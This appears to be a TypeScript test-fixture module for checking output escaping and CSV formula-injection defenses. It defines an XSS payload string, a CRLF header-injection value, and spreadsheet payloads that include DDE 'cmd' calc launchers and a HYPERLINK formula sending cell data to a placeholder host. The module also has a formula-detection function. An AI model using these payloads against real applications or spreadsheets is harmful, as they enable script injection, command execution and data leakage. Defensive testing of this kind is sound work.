/** The name of an element that no page of ours has: where it is found, somebody else's markup was taken for ours. */
export const PROBE = "x-probe";

/** Name of a header that no answer of ours has. */
export const PROBE_HEADER = "x-probe-header";

/**
 * A text that becomes markup, a script or an attribute wherever it is not escaped. Its first sixty characters are enough for that, because
 * messages shorten what they repeat.
 */
export const HOSTILE_MARKUP = [
  `"'><${PROBE} onx=1><script>alert(1)</script>`,
  "</title></textarea></style></script></svg>-->",
  "<img src=x onerror=alert(2)><svg/onload=alert(3)>",
].join("");

/** The same with line ends, which would be headers of an answer where they came into its head. */
export const HOSTILE_VALUE = `${HOSTILE_MARKUP}\r\n${PROBE_HEADER}: 1\r\n\r\n<${PROBE}>`;

/** Texts that spreadsheets run as formulas. */
export const FORMULAS = [
  `=HYPERLINK("https://example.invalid/?"&A1,"ALPHA")`,
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "＝1+1",
  "＠SUM(1)",
] as const;

/** How a spreadsheet tells that a cell of a CSV is a formula and no number. */
export function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
}
